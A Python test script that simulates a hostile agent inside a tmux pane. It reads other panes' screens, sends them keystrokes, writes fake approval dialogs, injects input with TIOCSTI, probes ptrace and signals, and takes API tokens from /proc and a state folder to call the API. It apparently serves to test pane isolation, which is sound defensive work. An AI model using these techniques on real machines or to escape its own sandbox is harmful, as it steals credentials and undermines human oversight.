"""An agent gone hostile: run inside pane A, it tries every way into another pane it can think of
and writes what worked as JSON. ``python attack_support.py RESULT B_PID FENCE`` (B's pid is given
to it: an uncontained agent reads it from /proc anyway, and a contained one must not reach it even
knowing it). It types only into tmux servers whose socket lies under ``FENCE`` (the test's own
folder), and writes only to terminals of processes whose command line names ``FENCE`` (B's): a
terminal or tmux server of anything else on this machine is only counted, never typed into.
Standard library only: it runs on whatever Python the pane finds.

The ways in: the tmux socket beside the report socket (and any socket named in another process's
command line or in ``/proc/net/unix``); another pane's screen through it, keys through it; every
``/dev/pts/N`` but its own (write a fake dialog, push keys with TIOCSTI, steal typed input);
TIOCSTI into its own terminal; the other processes' descriptors under ``/proc/<pid>/fd``; signals
and ptrace to B and to every process it can see; the API token from any command line, environment
or the state folder, and the API with it.
"""

from __future__ import annotations

import ctypes
import fcntl
import glob
import json
import os
import stat
import subprocess
import sys
import termios
import urllib.request

PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
FAKE = b"\r\n*** FAKE DIALOG: allow everything? [y/N] ***\r\n"


def pids() -> list[int]:
    return [int(p) for p in os.listdir("/proc") if p.isdigit()]


def read(path: str) -> bytes:
    try:
        with open(path, "rb") as f:
            return f.read()
    except OSError:
        return b""


def ancestry() -> set[int]:
    """This process and its parents: signalling those proves nothing."""
    found, pid = set(), os.getpid()
    while pid > 1:
        found.add(pid)
        stat_line = read(f"/proc/{pid}/stat")
        if not stat_line:
            break
        pid = int(stat_line[stat_line.rfind(b")") + 2 :].split()[1])
    return found


def socket_candidates() -> set[str]:
    report = os.environ.get("PANEWATCH_REPORT_SOCKET", "")
    found = set()
    folder = report
    for _ in range(3):
        folder = os.path.dirname(folder)
        found.add(os.path.join(folder, "tmux.sock"))
    for pid in pids():
        words = [w.decode(errors="replace") for w in read(f"/proc/{pid}/cmdline").split(b"\0") if w]
        for i, word in enumerate(words):
            if word == "-S" and i + 1 < len(words):
                found.add(words[i + 1])
            elif word.endswith(".sock"):
                found.add(word)
    for line in read("/proc/net/unix").decode(errors="replace").splitlines()[1:]:
        parts = line.split()
        if len(parts) >= 8 and parts[7].startswith("/"):
            found.add(parts[7])
    found.update(glob.glob("/tmp/tmux-*/*"))
    return {p for p in found if os.path.exists(p) and stat.S_ISSOCK(os.stat(p).st_mode)}


def tmux(sock: str, *args: str) -> subprocess.CompletedProcess[str]:
    """A tmux client on ``sock``; a socket that is no tmux server's (an HTTP one) never answers."""
    argv = ["tmux", "-S", sock, *args]
    try:
        return subprocess.run(argv, capture_output=True, text=True, timeout=3, check=False)
    except subprocess.TimeoutExpired:
        return subprocess.CompletedProcess(argv, 1, "", "no answer")


def attack_tmux(got: dict, fence: str) -> None:
    for sock in sorted(socket_candidates()):
        listed = tmux(sock, "list-panes", "-a", "-F", "#{pane_id}")
        if listed.returncode != 0:
            continue
        if not os.path.realpath(sock).startswith(fence):
            got["foreign_tmux_sockets"].append(sock)
            continue
        got["tmux_sockets"].append(sock)
        for pane in listed.stdout.split():
            screen = tmux(sock, "capture-pane", "-p", "-t", pane)
            if "SECRET-B" in screen.stdout:
                got["screens_read"].append(f"{sock} {pane}")
            if tmux(sock, "send-keys", "-t", pane, "y", "Enter").returncode == 0:
                got["keys_sent"].append(f"{sock} {pane}")


def fenced_terminals(fence: str) -> set[int]:
    """Terminal devices of the processes whose command line names ``fence`` (the test's panes)."""
    found = set()
    for pid in pids():
        if fence.encode() in read(f"/proc/{pid}/cmdline"):
            try:
                found.add(os.stat(f"/proc/{pid}/fd/0").st_rdev)
            except OSError:
                pass
    return found


def attack_terminals(got: dict, fence: str) -> None:
    own = os.fstat(0).st_rdev
    allowed = fenced_terminals(fence) - {own}
    for path in glob.glob("/dev/pts/*"):
        try:
            st = os.stat(path)
        except OSError:
            continue
        if path.endswith("ptmx") or st.st_rdev == own:
            continue
        got["terminals_seen"].append(path)
        if st.st_rdev not in allowed:
            continue  # another program's terminal on this machine: seen is enough
        try:
            fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            got["terminals_opened"].append(path)
            try:
                os.write(fd, FAKE)
                got["fake_dialog_written"].append(path)
            except OSError:
                pass
            try:
                for byte in b"y\n":
                    fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
                got["keys_pushed"].append(path)
            except OSError:
                pass
            try:
                if os.read(fd, 4096):
                    got["input_stolen"].append(path)
            except OSError:
                pass
        finally:
            os.close(fd)
    try:
        fcntl.ioctl(0, termios.TIOCSTI, b"#")  # into its own input: an agent's child answering the agent
        got["tiocsti_own_terminal"] = True
    except OSError:
        pass


def attack_descriptors(got: dict, mine: set[int]) -> None:
    for pid in pids():
        if pid in mine:
            continue
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            path = f"/proc/{pid}/fd/{fd}"
            try:
                link = os.readlink(path)
            except OSError:
                continue
            if not (link.startswith(("/dev/pts/", "/dev/ptmx", "socket:")) or "tmux" in link or "sqlite" in link):
                continue
            try:
                opened = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                if os.isatty(opened) and os.fstat(opened).st_rdev == os.fstat(0).st_rdev:
                    continue  # its own terminal, held by its own sandbox's init
                got["descriptors_opened"].append(f"{pid} {link}")
            finally:
                os.close(opened)


def attack_processes(got: dict, b_pid: int, mine: set[int]) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in sorted({b_pid, *pids()} - mine):
        try:
            os.kill(pid, 0)  # 0: the permission and existence check of a real signal, no harm done
            got["signals_deliverable"].append(pid)
        except OSError:
            pass
    if libc.ptrace(PTRACE_SEIZE, b_pid, None, None) == 0:
        got["ptrace_b"] = True
        libc.ptrace(PTRACE_DETACH, b_pid, None, None)
    for pid in pids():
        words = [w.decode(errors="replace") for w in read(f"/proc/{pid}/cmdline").split(b"\0") if w]
        if any("panewatch" in w for w in words) and "serve" in words:
            got["server_visible"] = True
        for word in words:
            if word.startswith("--token="):
                got["tokens"].append(word.split("=", 1)[1])
        for var in read(f"/proc/{pid}/environ").split(b"\0"):
            if var.startswith(b"PANEWATCH_TOKEN="):
                got["tokens"].append(var.split(b"=", 1)[1].decode(errors="replace"))


def attack_state_folder(got: dict) -> None:
    state = os.path.dirname(os.path.dirname(os.environ.get("PANEWATCH_REPORT_SOCKET", "/nonexistent/x/y")))
    try:
        got["state_folder"] = sorted(os.listdir(state))
    except OSError:
        pass
    token = read(os.path.join(state, "token")).decode(errors="replace").strip()
    if token:
        got["tokens"].append(token)
    url = os.environ.get("PANEWATCH_URL", "")
    for token in set(got["tokens"]):
        request = urllib.request.Request(f"{url}/api/sessions", headers={"Authorization": f"Bearer {token}"})
        try:
            with urllib.request.urlopen(request, timeout=5) as answer:
                if answer.status == 200:
                    got["api_with_a_stolen_token"] = True
        except OSError:
            pass


def main() -> None:
    out, b_pid, fence = sys.argv[1], int(sys.argv[2]), os.path.realpath(sys.argv[3])
    got: dict = {
        "tmux_sockets": [],
        "foreign_tmux_sockets": [],
        "screens_read": [],
        "keys_sent": [],
        "terminals_seen": [],
        "terminals_opened": [],
        "fake_dialog_written": [],
        "keys_pushed": [],
        "input_stolen": [],
        "tiocsti_own_terminal": False,
        "descriptors_opened": [],
        "signals_deliverable": [],
        "ptrace_b": False,
        "server_visible": False,
        "tokens": [],
        "api_with_a_stolen_token": False,
        "state_folder": [],
        "pids_seen": len(pids()),
    }
    mine = ancestry() | {1}  # pid 1: init (the host's, or its own sandbox's), no pane
    for step in (
        lambda g: attack_tmux(g, fence),
        lambda g: attack_terminals(g, fence),
        lambda g: attack_descriptors(g, mine),
        lambda g: attack_processes(g, b_pid, mine),
        attack_state_folder,
    ):
        try:
            step(got)
        except Exception as exc:  # one failed way in must not hide the others
            got.setdefault("errors", []).append(repr(exc))
    tmp = out + ".tmp"
    with open(tmp, "w") as f:
        json.dump(got, f, indent=1)
    os.replace(tmp, out)
    print("attack done", flush=True)


if __name__ == "__main__":
    main()
